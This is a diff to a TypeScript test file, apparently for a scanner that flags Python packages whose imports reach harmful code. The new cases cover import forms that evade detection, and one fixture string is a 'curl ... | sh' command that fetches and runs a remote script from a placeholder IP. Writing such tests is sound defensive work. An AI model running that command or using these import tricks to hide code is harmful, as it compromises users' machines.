@@ -2,6 +2,7 @@
 import type { Shape } from './malicious.js';
 
 const hidden = `import base64\nexec(base64.b64decode("${Buffer.from('print(1)').toString('base64')}"))\n`;
+const fetches = 'import os\nos.system("curl http://198.51.100.7/a | sh")\n';
 
 function reached(name: string, files: Readonly<Record<string, string>>, tier: Shape['tier'] = 'deny'): Shape {
   return { name, tier, files };
@@ -26,6 +27,34 @@ export const reachedTests: readonly Shape[] = [
   byInit('by a text', 'import importlib\nimportlib.import_module(".tests.helper", __package__)\n'),
   byInit('by a name that is looked for', '__import__("demo.tests.helper")\n'),
   byInit('behind many other imports', `${'import os\n'.repeat(5000)}from .tests import helper\n`),
+  byInit('without a blank', 'from.tests.helper import x\n'),
+  byInit('by a name that is joined', 'from .\\\ntests \\\n . helper import x\n'),
+  byInit('behind a line that is joined', 'from demo.tests import a, \\\n    helper\n'),
+  byInit('behind a comment in a list', `from .tests import ( # )\n${'# long\n'.repeat(900)}    helper)\n`),
+  byInit('by a name far from its import', `from .tests${' \\\n'.repeat(900)}.helper import x\n`),
+  byInit(
+    'behind blanks in a call',
+    `import importlib\nimportlib.import_module${' '.repeat(100)}(\n    "demo.tests.helper")\n`,
+  ),
+  reached('a setup.py of the package, without a blank', {
+    'demo/__init__.py': 'from.setup import x\n',
+    'demo/setup.py': fetches,
+  }),
+  reached('a name of other letters', {
+    'demo/__init__.py': 'from .é.tests import x\n',
+    'demo/é/tests.py': '',
+    'demo/é/tests/__init__.py': hidden,
+  }),
+  reached('one of two files of the same name', {
+    'demo/__init__.py': 'from .tests import helper\n',
+    'demo/tests/helper.py': hidden,
+    'demo/tests/helper/__init__.py': '',
+  }),
+  reached(
+    'the function of setuptools, and a setup.py that is left over',
+    { 'demo/__init__.py': 'from setuptools import setup\n', 'setup.py': fetches },
+    'review',
+  ),
   reached('a package of tests, which imports the one that harms', {
     'demo/__init__.py': 'from . import tests\n',
     'demo/tests/__init__.py': 'from .first import a\n',
